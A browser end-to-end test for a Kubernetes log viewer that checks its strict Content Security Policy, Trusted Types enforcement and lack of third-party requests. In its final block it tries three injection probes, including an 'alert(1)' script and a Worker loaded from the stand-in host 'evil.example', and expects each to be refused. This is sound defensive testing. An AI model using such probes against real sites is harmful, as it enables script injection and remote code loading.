import { openLog } from './log-page.ts'
import { expect, test } from './test.ts'
import { numberedLines } from './test-cluster.ts'

test('pages run under a strict policy: a nonce each, Trusted Types, nobody else to load from @cluster', async ({
  page,
  cluster,
  baseURL,
}) => {
  const violations: string[] = []
  const strangers: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedScript|TrustedHTML/.test(message.text())) violations.push(message.text())
  })
  page.on('pageerror', (error) => violations.push(error.message))
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url())
    if (origin !== baseURL && protocol !== 'data:' && protocol !== 'blob:') strangers.push(request.url())
  })
  await cluster.addPod({ name: 'writer', containers: [{ name: 'app' }] })
  await cluster.write('writer', 'app', numberedLines(1, 50))

  const answer = await page.goto('/')
  const policy = (await answer?.headerValue('content-security-policy')) ?? ''
  expect(policy).toMatch(/script-src 'self' 'nonce-[\w+/]{22}==' 'strict-dynamic'/)
  expect(policy).toContain("frame-ancestors 'none'")
  expect((await page.reload())?.headers()['content-security-policy']).not.toBe(policy)

  // Lists, the log with its Worker, a menu, a dialog, the palette.
  const { row } = await openLog(page, cluster.namespace, 'writer')
  await expect(row('line 000050')).toBeVisible()
  await page.getByRole('button', { name: 'Theme' }).click()
  await page.getByRole('menuitemradio', { name: 'Dark' }).click()
  await page.keyboard.press('Escape')
  await page.keyboard.press('Control+k')
  await expect(page.getByRole('dialog')).toBeVisible()
  await page.keyboard.press('Escape')
  await page.getByRole('link', { name: 'Podlogs' }).click()
  await expect(page.getByRole('main').getByText(cluster.namespace)).toBeVisible()

  expect(violations).toEqual([])
  expect(strangers).toEqual([])
  const refused = await page.evaluate(() => {
    const tries = [
      () => document.body.insertAdjacentHTML('beforeend', '<b>markup</b>'),
      () => {
        document.createElement('script').text = 'alert(1)'
      },
      () => void new Worker('https://evil.example/worker.js'),
    ]
    return tries.map((attempt) => {
      try {
        attempt()
        return 'done'
      } catch {
        return 'refused'
      }
    })
  })
  expect(refused).toEqual(['refused', 'refused', 'refused'])
})
